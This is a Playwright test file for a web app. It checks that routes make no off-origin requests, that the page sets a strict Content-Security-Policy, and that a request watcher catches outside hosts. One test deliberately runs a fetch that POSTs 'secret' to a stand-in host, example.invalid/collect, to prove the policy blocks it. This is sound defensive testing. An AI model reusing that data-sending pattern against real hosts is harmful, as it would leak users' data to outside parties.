import { test, expect, openSample } from './fixtures';

// The fixture fails any test on a request to another origin or a console error; this one
// walks every route of the sample project so each page is held to that.
test('every route of the sample project stays on this origin without console errors', async ({ page }) => {
  const projectId = await openSample(page);
  for (const stage of ['frame', 'data', 'model', 'deploy', 'monitor', 'govern']) {
    await page.goto(`/#/p/${projectId}/${stage}`);
    await expect(page.getByRole('heading', { level: 2, name: new RegExp(stage, 'i') })).toBeVisible();
  }
  for (const view of ['monitor/drift', 'govern/summary', 'govern/snapshot']) {
    await page.goto(`/#/p/${projectId}/${view}`);
    await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible();
  }
  for (const lab of ['/#/lab/ctr', '/#/lab/ctr/present']) {
    await page.goto(lab);
    await expect(page.getByText(/^Week 0 of 13 simulated/)).toBeVisible({ timeout: 30_000 });
  }
  await page.goto('/#/system');
  await expect(page.getByTestId('backend-name')).toBeVisible();
  await page.goto('/#/');
  await expect(page.getByRole('heading', { level: 1, name: 'Projects' })).toBeVisible();
});

test('the built page carries a strict Content-Security-Policy', async ({ page }) => {
  await page.goto('/');
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  expect(csp).not.toContain('unsafe-inline');
});

test('the policy stops a script from sending data to another origin', async ({ browser, baseURL }) => {
  // A separate context: the refusal is expected to log a console error here.
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const refusals: string[] = [];
  page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) refusals.push(m.text()); });
  await page.goto('/');
  const outcome = await page.evaluate(() =>
    fetch('http://example.invalid/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked'),
  );
  expect(outcome).toBe('blocked');
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  await context.close();
});

test('the off-origin watcher sees requests to other hosts', async ({ browser, baseURL }) => {
  // Guards the guard: the listener the fixture uses must notice a request that leaves.
  const context = await browser.newContext({ baseURL });
  const seen: string[] = [];
  context.on('request', (r) => { if (!r.url().startsWith(baseURL!)) seen.push(r.url()); });
  await context.route('http://example.invalid/**', (route) => route.fulfill({ body: 'stub', contentType: 'text/plain' }));
  const page = await context.newPage();
  await page.goto('http://example.invalid/page');
  expect(seen).toContain('http://example.invalid/page');
  await context.close();
});
